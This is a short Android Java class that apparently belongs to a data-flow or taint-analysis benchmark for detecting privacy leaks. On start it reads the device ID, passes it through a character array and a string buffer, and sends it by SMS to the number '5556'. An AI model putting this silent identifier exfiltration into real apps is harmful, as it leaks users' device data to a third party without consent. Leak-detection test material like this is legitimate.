package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** Through a character array and a buffer. */
public class Letters extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        char[] c = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId().toCharArray();
        StringBuilder b = new StringBuilder();
        for (char x : c) b.append(x).append('_');
        SmsManager.getDefault().sendTextMessage("5556", null, b.toString().substring(1), null, null);
    }
}
